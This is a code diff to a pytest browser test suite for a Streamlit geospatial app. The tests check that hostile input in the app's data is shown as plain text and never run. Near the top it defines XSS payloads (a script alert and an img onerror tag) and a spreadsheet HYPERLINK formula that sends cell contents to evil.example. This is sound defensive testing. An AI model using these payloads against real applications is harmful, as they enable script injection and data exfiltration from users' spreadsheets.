@@ -15,22 +15,20 @@ import html
 import json
 import re
 import shutil
-import time
 from collections.abc import Iterator
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
+from _browser import chromium, need_chromium, new_page, wait_idle
 from _serve import HOVER_JS, streamlit_app
 from geo_csp import ingest, store
 from geo_csp.demo import DemoPaths
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
-CHROMIUM = Path("/usr/bin/chromium")
 BOUNDARIES = Path(__file__).resolve().parent.parent / "boundaries"
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
 SCRIPT = "<script>alert('script')</script>"
 IMG = "<img src=x onerror=alert('img')>"
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
@@ -158,30 +156,11 @@ def _hostile_copy(demo: DemoPaths, root: Path) -> Path:
 
 @pytest.fixture(scope="session")
 def hostile_app(tmp_path_factory: pytest.TempPathFactory, demo_borough: DemoPaths) -> Iterator[str]:
-    if not CHROMIUM.exists():
-        pytest.skip(f"{CHROMIUM} is absent (install Debian's chromium package to run browser tests)")
-    pytest.importorskip("playwright.sync_api")
+    need_chromium()
     root = tmp_path_factory.mktemp("hostile-app")
     store_dir = _hostile_copy(demo_borough, root)
     with streamlit_app(store_dir=store_dir, demo_dir=root, log_path=root / "streamlit.log") as url:
         yield url
-
-
-BUSY = '[data-testid="stStatusWidget"], [data-testid="stSpinner"], [data-testid="stSkeleton"]'
-
-
-def _wait_idle(page: object) -> None:
-    """Wait until the script has finished (no running status, spinner or placeholder) and the page's text
-    stays the same for 6 s (a page may compute silently for a few seconds), so component iframes (the
-    map) have drawn; bounded by RENDER_TIMEOUT_MS."""
-    deadline = time.monotonic() + RENDER_TIMEOUT_MS / 1000
-    seen: list[str | None] = []
-    while time.monotonic() < deadline:
-        page.wait_for_timeout(2000)  # type: ignore[attr-defined]
-        seen.append(page.evaluate(f"() => document.querySelector('{BUSY}') ? null : document.body.innerText"))  # type: ignore[attr-defined]
-        if len(seen) >= 4 and seen[-1] is not None and len(set(seen[-4:])) == 1:
-            return
-    pytest.fail(f"{page.url} still running after {RENDER_TIMEOUT_MS / 1000:.0f} s")  # type: ignore[attr-defined]
 
 
 def test_the_hostile_run_visits_every_page_of_the_app() -> None:
@@ -193,32 +172,25 @@ def test_the_hostile_run_visits_every_page_of_the_app() -> None:
 
 
 def test_every_page_shows_hostile_input_text_as_text(hostile_app: str) -> None:
-    from playwright.sync_api import sync_playwright
-
     dialogs: list[str] = []
     found: dict[str, dict[str, int]] = {}
     exceptions: dict[str, list[str]] = {}
     shown = ""
-    with sync_playwright() as pw:
-        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
-        try:
-            page = browser.new_context(viewport={"width": 1400, "height": 1100}).new_page()
-            page.set_default_timeout(RENDER_TIMEOUT_MS)
-            page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
-            for path in PAGES:
-                page.goto(f"{hostile_app}/{path}")
-                page.wait_for_selector('[data-testid="stSidebar"]')
-                _wait_idle(page)
-                exceptions[path or "map"] = page.locator('[data-testid="stException"]').all_inner_texts()
-                for frame in page.frames:
-                    tips = frame.evaluate(HOVER_JS)
-                    page.wait_for_timeout(300)  # an onerror handler fires once a broken image fails to load
-                    counts = frame.evaluate(INJECTED_JS)
-                    if any(counts.values()):
-                        found[f"{path or 'map'} {frame.url[:60]}"] = counts
-                    shown += "\n" + frame.evaluate("() => document.body ? document.body.innerText : ''") + tips
-        finally:
-            browser.close()
+    with chromium() as browser:
+        page = new_page(browser, timeout_ms=RENDER_TIMEOUT_MS)
+        page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
+        for path in PAGES:
+            page.goto(f"{hostile_app}/{path}")
+            page.wait_for_selector('[data-testid="stSidebar"]')
+            wait_idle(page, timeout_ms=RENDER_TIMEOUT_MS)  # the page's run finished, its map drawn
+            exceptions[path or "map"] = page.locator('[data-testid="stException"]').all_inner_texts()
+            tips = [frame.evaluate(HOVER_JS) for frame in page.frames]
+            page.wait_for_timeout(300)  # an onerror handler fires once a broken image fails to load
+            for frame, tip in zip(page.frames, tips, strict=True):
+                counts = frame.evaluate(INJECTED_JS)
+                if any(counts.values()):
+                    found[f"{path or 'map'} {frame.url[:60]}"] = counts
+                shown += "\n" + frame.evaluate("() => document.body ? document.body.innerText : ''") + tip
     (Path(__file__).parent / "_artifacts").mkdir(exist_ok=True)
     (Path(__file__).parent / "_artifacts" / "hostile_app_text.txt").write_text(shown, encoding="utf-8")
     assert dialogs == [], f"the app ran script from the data: {dialogs}"
